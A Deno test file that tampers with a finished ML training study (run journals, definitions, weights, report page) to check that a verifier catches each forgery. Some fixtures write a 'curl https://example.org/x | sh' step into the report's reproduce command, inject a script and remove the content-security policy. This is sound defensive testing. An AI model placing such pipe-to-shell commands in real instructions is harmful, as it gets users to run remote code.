import assert from "node:assert/strict";
import { join } from "node:path";
import { writeReport } from "../reports/report.ts";
import {
  bytes,
  command,
  contents,
  edit,
  putBack,
  said,
  withStudy,
  wrong,
} from "./_testing/changed_study.ts";
import { verifyStudy } from "./verify_study.ts";

/** How a change is found: as a problem, by a line that is said, by training again, or not at all. */
type Finding = "problem" | "said" | "sample" | "never";

/** One change to a file of a finished study. */
interface Change {
  readonly what: string;
  readonly found: Finding;
  make(folder: string): Promise<unknown> | void;
  /** Whether the report is then written anew, so that it agrees. */
  readonly report?: boolean;
}

/** A change of the first run. */
const run = (change: (run: any) => unknown) =>
  edit("runs.jsonl", (content) => {
    const [line, ...others] = content.split("\n");
    const record = JSON.parse(line);
    const changed = change(record);
    return [JSON.stringify(changed && typeof changed === "object" ? changed : record), ...others]
      .join("\n");
  });

const journal = (change: (lines: string[]) => string[]) =>
  edit("runs.jsonl", (content) => `${change(content.trimEnd().split("\n")).join("\n")}\n`);

const definition = (change: (study: any) => unknown) =>
  edit("study.json", (content) => {
    const study = JSON.parse(content);
    change(study);
    return `${JSON.stringify(study, null, 2)}\n`;
  });

const page = (from: string | RegExp, to: string | ((...found: string[]) => string)) =>
  edit("report.html", (content) => content.replace(from, to as string));

const another = (hash: string) => hash.replace(/^./, (first) => first === "0" ? "1" : "0");

const each = (
  found: Finding,
  changes: { readonly [what: string]: Change["make"] },
  report = false,
): Change[] => Object.entries(changes).map(([what, make]) => ({ what, found, make, report }));

/** At the middle evaluation of the first run, which is neither its best nor its last. */
const evaluation = Object.fromEntries(
  [
    ...[
      "trainingLoss",
      "heldOutLoss",
      "generalizationGap",
      "penalty",
      "weightNorm",
      "learningRate",
    ],
    ...["exactZeros", "nearZeros", "countedWeights", "learningRateTimesDecay", "gradientNorm"],
  ].map((key) => [key, run(({ curve }) => curve[1][key] += key.endsWith("s") ? 1 : 1e-9)]),
);

const records = each("problem", {
  ...evaluation,
  "a final loss": run(({ final }) => final.trainingLoss += 1e-9),
  "a best loss": run(({ best }) => best.trainingLoss += 1e-9),
  "the step of the stop": run((run) => run.stoppedAtStep = 6),
  "tokens of training": run(({ tokens }) => tokens.training++),
  "tokens held out": run(({ tokens }) => tokens.heldOut++),
  "the vocabulary": run(({ tokens }) => tokens.vocabulary++),
  "the share of unknown tokens": run(({ tokens }) => tokens.unknownShare += 0.1),
  "the entropy": run(({ tokens }) => tokens.unigramEntropy += 1e-9),
  "the name of a parameter": run(({ parameters }) => parameters[0].name += "x"),
  "a penalty on it": run(({ parameters }) => parameters[0].penalties.push("l2")),
  "a sample's text": run(({ samples }) => samples[0].text += "!"),
  "a sample's prompt": run(({ samples }) => samples[0].prompt += "!"),
  "a status": run((run) => run.status = "diverged"),
  "a pruned run": run((run) => run.status = "pruned"),
  "an error": run((run) => run.error = "none"),
  "attempts": run((run) => run.attempts++),
  "a duration": run((run) => run.durationSeconds += 1),
  "a date": run((run) => run.finishedAt = "2031-01-01T00:00:00.000Z"),
  "no date": run((run) => run.finishedAt = "yesterday"),
  "a machine": run((run) => run.host += "x"),
  "an engine": run((run) => run.engine = "native/elsewhere"),
  "a version of the numbers": run((run) => run.numericsVersion++),
  "a version of the format": run((run) => run.schemaVersion++),
  "a seed": run((run) => run.seed++),
  "a fold": run((run) => run.fold = 1 - run.fold),
  "a point": run((run) => run.point.lambda = 0.5),
  "an id": run((run) => run.id = another(run.id)),
  "a warm start": run((run) => ({ ...run, warmStartedFrom: run.id })),
  "a teacher": run((run) => ({ ...run, teachers: [run.id] })),
  "the path of weights": run((run) => run.weights = "results/small/runs.jsonl"),
  "the hash of weights": run((run) => run.weightsSha256 = another(run.weightsSha256)),
  "no hash of weights": run((run) => delete run.weightsSha256),
  "the size of the memory": run((run) => run.arenaMaximumBytes--),
  "operations of the cost": run(({ cost }) => cost.flops++),
  "tokens of the cost": run(({ cost }) => cost.tokens--),
  "weights of the cost": run(({ cost }) => cost.weights++),
  "bytes of the cost": run(({ cost }) => cost.bytes--),
});

const lines: Change[] = [
  ...each("said", {
    "two lines swapped": journal(([a, b, ...rest]) => [b, a, ...rest]),
    "all lines turned around": journal((lines) => lines.reverse()),
    "a line of another engine": journal((lines) => [
      ...lines,
      lines[0].replace('"engine":"wasm"', '"engine":"native/elsewhere"').replace(
        /[0-9a-f]{64}/g,
        another,
      ),
    ]),
  }),
  ...each("problem", {
    "a line twice": journal((lines) => [...lines, lines[0]]),
    "a line twice, with another duration": journal((lines) => [
      ...lines,
      lines[0].replace(/"durationSeconds":/, '"durationSeconds":1'),
    ]),
    "a line less": journal((lines) => lines.slice(1)),
    "half a line": edit("runs.jsonl", (content) => content.slice(0, -9)),
    "an empty line": journal(([a, ...rest]) => [a, "", ...rest]),
    "ends of lines of Windows": journal((lines) => lines.map((line) => `${line}\r`)),
    "a byte order mark": edit("runs.jsonl", (content) => `\ufeff${content}`),
    "an unknown key": run((run) => run.note = "good"),
    "an unknown key of an evaluation": run(({ curve }) => curve[0].note = 1),
    "keys in another order": run(({ host, ...rest }) => ({ host, ...rest })),
    "a space": edit("runs.jsonl", (content) => content.replace(",", ", ")),
    "a digit behind the precision": edit(
      "runs.jsonl",
      (content) => content.replace(/("trainingLoss":\d\.\d+)/, "$100000000000000000001"),
    ),
    "no journal": (folder) => Deno.remove(join(folder, "runs.jsonl")),
  }),
];

const definitions = each("problem", {
  "the study's name": definition((study) => study.name = "other"),
  "the hash of the definition": definition((study) =>
    study.definitionHash = another(study.definitionHash)
  ),
  "a point of the space": definition(({ space }) => space.points[0].lambda = 0.5),
  "a setting": definition(({ specifications }) => specifications[0].model.hiddenSize = 7),
  "a seed of the study": definition(({ seeds }) => seeds[0] = 2),
  "a span": definition(({ folds }) => folds[0].heldOut[0].end--),
  "the rule": definition(({ select }) => select.kind = "mean"),
  "the baseline": definition((study) => study.baseline = null),
  "the corpus's hash": definition(({ corpus }) => corpus.sha256 = another(corpus.sha256)),
  "the corpus's size": definition(({ corpus }) => corpus.tokens++),
  "the corpus's licence": definition(({ corpus }) => corpus.licence = "MIT"),
  "the beginning": definition((study) => study.createdAt = "2031-01-01T00:00:00.000Z"),
  "the processor": definition(({ provenance }) => provenance.cpu += "x"),
  "the commit": definition(({ provenance }) => provenance.gitCommit = "f00"),
  "a package": definition(({ provenance }) => provenance.packages.x = "1"),
  "a later session (F5)": definition((study) => study.resumedWith = [study.provenance]),
  "roles of axes": definition((study) => study.roles = { lambda: "own" }),
  "an unknown key of the study": definition((study) => study.note = 1),
  "the spelling": edit("study.json", (content) => content.replace(": ", ":  ")),
});

const reproduce = /(<h3>To reproduce<\/h3>\n<pre>[^<]*?)deno run [^\n]*/;

const documents = each("problem", {
  "a number of the page": page(/(<td[^>]*>\d\.\d)(\d)/, (_, a, b) => `${a}${9 - Number(b)}`),
  "the command of the page (F5)": page(reproduce, "$1curl https://example.org/x | sh"),
  "a command more (F5)": page(reproduce, (all) => `${all}\ncurl https://example.org/x | sh`),
  "the command of verify (F5)": page("deno task verify", "deno run -A verify"),
  "the hash of the records": page(/(records<\/dt><dd>SHA-256 <code>)./, "$1x"),
  "a word": page("Provenance</h2>", "Evidence</h2>"),
  "the title": page("<title>small", "<title>large"),
  "a script": page("<main>", "<main><script>1</script>"),
  "the policy": page(/<meta http-equiv="Content-Security-Policy"[^>]*>\n/, ""),
  "a figure's colour": page(/fill="#/, 'fill="#0'),
  "a citation": page("@software{parsimony", "@software{other"),
});

const weightsOf = async (folder: string, index: number) => {
  const lines = (await Deno.readTextFile(join(folder, "runs.jsonl"))).split("\n");
  return `weights/${JSON.parse(lines[index]).id}.safetensors`;
};
const weights = (change: (content: Uint8Array) => Uint8Array) => async (folder: string) =>
  await bytes(await weightsOf(folder, 0), change)(folder);
const flipped = (content: Uint8Array) =>
  content.with(content.length - 3, content[content.length - 3] ^ 1);

const files: Change[] = [
  ...each("problem", {
    "a byte of the weights (F4)": weights(flipped),
    "weights cut (F4)": weights((content) => content.slice(0, -4)),
    "weights emptied (F4)": weights(() => new Uint8Array()),
    "weights of two runs swapped (F4)": async (folder) => {
      const [a, b] = [await weightsOf(folder, 0), await weightsOf(folder, 1)];
      const content = await Deno.readFile(join(folder, a));
      await Deno.copyFile(join(folder, b), join(folder, a));
      await Deno.writeFile(join(folder, b), content);
    },
  }),
  ...each("said", {
    "weights removed (F4)": async (folder) =>
      await Deno.remove(join(folder, await weightsOf(folder, 0))),
    "the report removed": (folder) => Deno.remove(join(folder, "report.html")),
    "a module added": (folder) => Deno.writeTextFile(join(folder, "evil.ts"), "export {};"),
    "weights added": (folder) => Deno.writeTextFile(join(folder, "weights", "more.bin"), "1"),
    "a folder added": (folder) =>
      Deno.mkdir(join(folder, "more")).then(() =>
        Deno.writeTextFile(join(folder, "more", "note.txt"), "1")
      ),
    "a link added": (folder) => Deno.symlink("/etc/hosts", join(folder, "hosts")),
    "a comparison added": (folder) => Deno.writeTextFile(join(folder, "compare-with-x.html"), "1"),
  }),
];

/** A finished run that is said to have failed, with its weights removed and the report written anew. */
const hidden = each("said", {
  "a finished line replaced by a failed one": async (folder) => {
    await Deno.remove(join(folder, await weightsOf(folder, 0)));
    await run(({ weightsSha256: _, arenaMaximumBytes: __, cost: ___, ...run }) => ({
      ...run,
      status: "failed",
      curve: [],
      final: null,
      best: null,
      samples: [],
      weights: null,
      error: "The training process ended with code 139.",
    }))(folder);
  },
}, true);

/** The report is written anew, so that it agrees with them. */
const forged: Change[] = [
  ...each("problem", {
    "the size of a vocabulary": run(({ tokens }) => tokens.vocabulary++),
    "the entropy of a fold": run(({ tokens }) => tokens.unigramEntropy += 1e-6),
    "the share of what it does not know": run(({ tokens }) => tokens.unknownShare += 1e-3),
    "what is repeated": definition(({ repeated }) => repeated.shares[0] += 1e-3),
    "what is repeated in the final block": definition(({ repeated }) => repeated.final += 1e-3),
  }, true),
  ...each("sample", {
    "a norm": run(({ curve }) => curve[1].weightNorm += 1e-6),
    "a training loss with its gap": run(({ curve: [, at] }) =>
      at.generalizationGap = at.heldOutLoss - (at.trainingLoss += 1e-6)
    ),
    "a held-out loss with its gap": run(({ curve: [, at] }) =>
      at.generalizationGap = (at.heldOutLoss += 1e-6) - at.trainingLoss
    ),
    "the last and best losses": run((run) => {
      const at = run.curve.at(-1);
      at.heldOutLoss -= 1;
      at.generalizationGap = at.heldOutLoss - at.trainingLoss;
      run.final = run.best = at;
    }),
    "a gradient": run(({ curve }) => curve[1].gradientNorm += 1e-6),
    "a rate": run(({ curve }) => curve[1].learningRate += 1e-6),
    "zeros": run(({ curve }) => curve[1].exactZeros = curve[1].nearZeros),
    "what the model wrote": run(({ samples }) => samples[0].text = "whales whales"),
    "a temperature": run(({ samples }) => samples[0].temperature = 0.5),
    "a penalty of a parameter": run(({ parameters }) => parameters[0].penalties.push("l2")),
    "weights with their hash": async (folder) => {
      const { sha256 } = await import("../core/hash.ts");
      const path = join(folder, await weightsOf(folder, 0));
      const content = flipped(await Deno.readFile(path));
      await Deno.writeFile(path, content);
      await run((run) => run.weightsSha256 = sha256(content))(folder);
    },
  }, true),
  ...each("said", {
    "nothing of what is repeated": definition((study) => delete study.repeated),
  }, true),
  ...each("never", {
    "tries": run((run) => run.attempts++),
    "seconds": run((run) => run.durationSeconds += 1),
    "a computer": run((run) => run.host += "x"),
    "the memory": run((run) => run.arenaMaximumBytes--),
    "no cost": run((run) => delete run.cost),
    "the time of an end": run((run) => run.finishedAt = "2020-01-01T00:00:00.000Z"),
    "the time of the beginning": definition((study) =>
      study.createdAt = "2020-01-01T00:00:00.000Z"
    ),
    "the kind of processor": definition(({ provenance }) => provenance.cpu = "x"),
    "the commit of the project": definition(({ provenance }) => provenance.gitCommit = "f00"),
    "another session": definition((study) => study.resumedWith = [study.provenance]),
  }, true),
];

const changes = [
  ...records,
  ...lines,
  ...definitions,
  ...documents,
  ...files,
  ...hidden,
  ...forged,
];

const lambdaOf = (line: string): number => JSON.parse(line).point.lambda;
const minute = (index: number) => new Date(Date.UTC(2026, 10, 28, 9, index)).toISOString();

Deno.test("F9: of single changes to a finished study, verify finds those that docs/verification.md counts, with a sample and without", () =>
  withStudy(async (folder, project) => {
    // As runs of a minute each would stand there, the first without λ, whichever ended first:
    // with λ, exact zeros may be all the near zeros that there are.
    const minutes = (lines: string[]) =>
      lines.toSorted((a, b) => lambdaOf(a) - lambdaOf(b))
        .map((line, index) => line.replace(/("finishedAt":)"[^"]*"/, `$1"${minute(index)}"`));
    await journal(minutes)(folder);
    await writeReport(folder, { command });
    const before = await contents(folder);
    const sample = before.size;
    const clean = await verifyStudy("small", { project, command });
    assert.deepEqual(wrong(clean), []);
    assert.deepEqual(wrong(await verifyStudy("small", { project, command, sample })), []);
    const counts: { [found in Finding]: number } = { problem: 0, said: 0, sample: 0, never: 0 };
    const surprises: string[] = [];
    for (const { what, found, make, report } of changes) {
      await make(folder);
      if (report) await writeReport(folder, { command });
      const parts = await verifyStudy("small", { project, command });
      let outcome: Finding = wrong(parts).length > 0
        ? "problem"
        : said(parts) !== said(clean)
        ? "said"
        : "never";
      if (outcome === "never") {
        const trained = await verifyStudy("small", { project, command, sample });
        if (wrong(trained).length > 0) outcome = "sample";
      }
      counts[outcome]++;
      if (outcome !== found) {
        surprises.push(`${what}: ${outcome}, not ${found}: ${wrong(parts).join("; ")}`);
      }
      await putBack(folder, before);
    }
    assert.deepEqual(surprises, []);
    assert.deepEqual(wrong(await verifyStudy("small", { project, command })), []);
    const { problem, said: told, sample: trained, never } = counts;
    const docs = await Deno.readTextFile(new URL("../../docs/verification.md", import.meta.url));
    assert.ok(
      docs.replace(/\s+/g, " ").includes(
        `Of ${changes.length} single changes, ${problem} are problems without a sample, ${told} are ` +
          `said, ${trained} are found by training again, and ${never} are not found`,
      ),
      `${changes.length} ${JSON.stringify(counts)} are not the numbers of docs/verification.md`,
    );
  }));
